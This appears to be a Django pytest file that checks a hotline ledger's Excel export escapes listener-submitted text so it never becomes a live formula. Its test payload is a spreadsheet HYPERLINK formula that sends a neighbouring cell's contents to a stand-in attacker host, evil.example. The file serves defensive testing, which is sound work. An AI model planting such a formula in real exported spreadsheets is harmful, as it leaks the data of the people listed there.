"""Issue 9, item 4 on the 听众反映事项台账 export: a listener's text never becomes a live formula."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from zhenwu.testing import login

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击")'


def test_hotline_ledger_export(hl: Any, client: Client) -> None:
    from zhenwu.hotline import services

    episode = hl.episode()
    services.issue_create(
        actor=hl.operator,
        episode=episode,
        text=PAYLOAD,
        source="phone",
        caller_name="=1+1",
        caller_phone="13912340000",
    )
    response = login(client, hl.cast.town_admin).get(reverse("hotline:ledger_export"))
    assert response.status_code == 200
    cells = [
        c for ws in load_workbook(io.BytesIO(response.content)).worksheets for r in ws.iter_rows() for c in r
    ]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert texts and all(t.startswith("'=") for t in texts)
